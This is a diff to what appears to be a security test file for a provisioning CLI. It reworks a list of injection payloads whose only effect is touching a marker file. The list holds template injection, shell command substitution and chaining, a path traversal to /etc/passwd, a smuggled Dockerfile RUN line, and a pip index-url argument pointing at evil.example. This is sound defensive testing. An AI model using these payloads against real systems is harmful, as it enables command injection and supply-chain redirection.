@@ -17,17 +17,17 @@ from provision.cli import app
 
 ROOT = Path(__file__).resolve().parents[2]
 MARKER = Path("/tmp") / f"provision-pwned-{uuid.uuid4().hex}"
-PAYLOADS = [
-    "{{ lookup('pipe', 'touch %s') }}" % MARKER,
-    "{%% if true %%}x{%% endif %%}",
-    "$(touch %s)" % MARKER,
-    "`touch %s`" % MARKER,
-    "x; touch %s" % MARKER,
-    "x && touch %s #" % MARKER,
+PAYLOADS = [text.replace("MARK", str(MARKER)) for text in (
+    "{{ lookup('pipe', 'touch MARK') }}",
+    "{% if true %}x{% endif %}",
+    "$(touch MARK)",
+    "`touch MARK`",
+    "x; touch MARK",
+    "x && touch MARK #",
     "../../../../etc/passwd",
-    "x\nRUN touch %s" % MARKER,
+    "x\nRUN touch MARK",
     "x' --index-url http://evil.example/ '",
-]
+)]
 # Fields whose values are free text by design (never rendered where they could act).
 FREE_TEXT = {"description"}
 
